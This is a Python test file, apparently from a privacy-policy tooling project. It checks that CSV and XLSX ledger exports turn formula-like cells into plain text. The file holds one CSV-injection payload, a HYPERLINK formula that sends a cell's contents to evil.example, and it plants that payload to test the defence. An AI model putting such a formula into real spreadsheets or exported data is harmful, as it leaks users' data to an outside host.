"""A ledger opened in a spreadsheet never runs a formula written into the policy (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from mamori.datamap.ledger import ledger_csv, ledger_rows, ledger_xlsx
from mamori.policy.loader import load_bundle
from tests.bundles import edit
from tests.factories.fulfillment import shop_bundle

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"会員情報")'


def _rows(tmp_path: Path) -> list[list[str]]:
    directory = shop_bundle(tmp_path)
    quoted = FORMULA.replace('"', '\\"')
    edit(directory, "datamap/shop.yaml", "name: {ja: 会員情報,", f'name: {{ja: "{quoted}",')
    bundle = load_bundle(directory).bundle
    assert bundle is not None
    return [list(row) for row in ledger_rows(bundle, "ja")]


def test_csv_cells_starting_like_a_formula_are_text(tmp_path: Path) -> None:
    rows = _rows(tmp_path)
    cells = [c for row in csv.reader(io.StringIO(ledger_csv(rows).decode("utf-8-sig"))) for c in row]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


def test_xlsx_cells_starting_like_a_formula_are_text(tmp_path: Path) -> None:
    sheet = load_workbook(io.BytesIO(ledger_xlsx(_rows(tmp_path)))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]
